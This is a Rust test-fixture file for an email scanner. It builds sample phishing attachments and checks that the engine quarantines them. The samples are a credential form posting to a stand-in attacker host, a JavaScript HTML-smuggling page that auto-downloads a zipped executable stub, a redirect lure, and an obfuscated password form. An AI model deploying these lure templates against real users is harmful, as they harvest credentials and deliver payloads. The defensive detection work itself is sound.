//! Fixtures for the ATTACH_HTML_ rules: HTML and SVG attachments written as strings, and
//! end-to-end checks of what the engine makes of them.

use super::Fixture;
use super::archives::{mail, zip_of};
use base64::Engine as _;
use lurescreen::{Config, Engine, Report, Signatures, Verdict};

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn scan(raw: &[u8]) -> Report {
    Engine::new(Config::default(), Signatures::embedded().unwrap())
        .scan(raw)
        .unwrap()
}

/// A header-only PE stub: DOS header pointing at `PE\0\0` and a file header.
fn pe_stub() -> Vec<u8> {
    let mut d = vec![0u8; 0x100];
    d[0] = b'M';
    d[1] = b'Z';
    d[0x3C] = 0x80;
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    d[0x84..0x86].copy_from_slice(&0x14Cu16.to_le_bytes());
    d
}

fn smuggling_page() -> String {
    let payload = zip_of(&[("Invoice.exe", &pe_stub())]);
    format!(
        "<html><body><script>var s = \"{}\"; var b = atob(s); var u = new Uint8Array(b.length);\n\
         for (var i=0;i<b.length;i++) u[i]=b.charCodeAt(i);\n\
         var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u]));\n\
         a.download = 'Invoice.zip'; a.click();</script></body></html>",
        b64(&payload)
    )
}

pub fn fixtures() -> Vec<Fixture> {
    let d = Config::default;
    let encoded_form: String =
        r#"<form action="https://evil.example/p"><input type="password"></form>"#
            .bytes()
            .map(|b| format!("%{b:02X}"))
            .collect();
    vec![
        (
            "ATTACH_HTML_PASSWORD_FORM",
            d(),
            mail(
                "Please review the secure document.",
                &[(
                    "SecureDocument.html",
                    br#"<html><body><h3>Sign in to view</h3><form method="post" action="https://login.evil.example/o.php">
<input name="email"><input type="password" name="pass"><button>View</button></form></body></html>"#,
                )],
            ),
        ),
        (
            "ATTACH_HTML_SMUGGLING",
            d(),
            mail("invoice attached", &[("Invoice.html", smuggling_page().as_bytes())]),
        ),
        (
            "ATTACH_HTML_REDIRECT",
            d(),
            mail(
                "You have a voice message",
                &[(
                    "VoiceMessage.htm",
                    br#"<html><head><meta http-equiv="refresh" content="0;url=https://voice.evil.example/?e=taro@example.co.jp"></head></html>"#,
                )],
            ),
        ),
        (
            "ATTACH_HTML_DATA_URL",
            d(),
            mail(
                "document",
                &[(
                    "doc.html",
                    format!(
                        "<html><iframe src=\"data:text/html;base64,{}\"></iframe></html>",
                        b64("<p>Your document is ready.</p>".repeat(50).as_bytes())
                    )
                    .as_bytes(),
                )],
            ),
        ),
        (
            "ATTACH_HTML_SVG_SCRIPT",
            d(),
            mail(
                "receipt",
                &[(
                    "receipt.svg",
                    br#"<svg xmlns="http://www.w3.org/2000/svg"><script>document.title='x'</script></svg>"#,
                )],
            ),
        ),
        (
            "ATTACH_HTML_OBFUSCATED",
            d(),
            mail(
                "document",
                &[(
                    "Document.html",
                    format!("<script>document.write(unescape('{encoded_form}'))</script>").as_bytes(),
                )],
            ),
        ),
    ]
}

#[test]
fn a_smuggled_zip_is_opened_and_its_program_found() {
    let r = scan(&mail(
        "invoice",
        &[("Invoice.html", smuggling_page().as_bytes())],
    ));
    assert_eq!(r.verdict, Verdict::Quarantine);
    let exe = r
        .findings
        .iter()
        .find(|f| f.rule == "EXE_PROGRAM")
        .expect("the program inside the smuggled zip");
    assert_eq!(exe.location, "2/Invoice.html!/Invoice.zip!/Invoice.exe");
}

#[test]
fn an_ordinary_html_attachment_is_clean() {
    let page = r#"<!DOCTYPE html><html><head><title>Order confirmation</title>
<script>function toggle(){ document.getElementById('d').style.display='block'; }</script></head>
<body><h1>Thank you for your order</h1><table><tr><td>Item</td><td>Qty</td></tr></table>
<a href="https://shop.example.co.jp/orders/123">View your order</a>
<form action="https://shop.example.co.jp/search"><input name="q"></form></body></html>"#;
    let r = scan(&mail("Your order", &[("order.html", page.as_bytes())]));
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", r.findings);
    assert!(r.findings.is_empty());
}
